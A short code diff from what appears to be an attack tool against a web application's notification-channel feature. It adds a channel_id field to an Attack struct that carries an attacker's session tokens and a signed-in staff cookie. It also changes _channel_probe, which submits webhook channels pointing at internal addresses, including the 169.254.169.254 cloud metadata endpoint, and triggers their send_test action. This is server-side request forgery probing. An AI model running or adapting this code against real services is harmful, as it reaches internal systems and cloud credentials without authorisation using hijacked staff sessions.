@@ -28,7 +28,7 @@ _PRIVATE = ("127.0.0.1:5432", "localhost", "10.0.0.1", "169.254.169.254", "[::1]
 
 class Attack(msgspec.Struct):
     """What to do, for how many seconds, and the attacker's own tokens: of an agent, of its session,
-    and the cookie of staff that has signed in."""
+    the cookie of staff that has signed in, and the channel that they have."""
 
     kind: str
     port: int
@@ -37,6 +37,7 @@ class Attack(msgspec.Struct):
     session_token: str
     session_id: str
     staff_session: str
+    channel_id: str
 
 
 class Kind(NamedTuple):
@@ -187,7 +188,7 @@ async def _channel_probe(attack: Attack, number: int) -> str:
     form = {"csrfmiddlewaretoken": _CSRF, "_form_submitted": "on", "severity_min": "info"}
     address = _PRIVATE[number % len(_PRIVATE)]
     form |= {"name": f"probe-{number}", "url": f"json://{address}/x?+X-Api-Key=1"}
-    path = _CHANNELS + ("add/" if number % 4 else "1/send_test/")
+    path = _CHANNELS + ("add/" if number % 4 else f"{attack.channel_id}/send_test/")
     return await _post_form(attack, path, form, cookies)
 
 
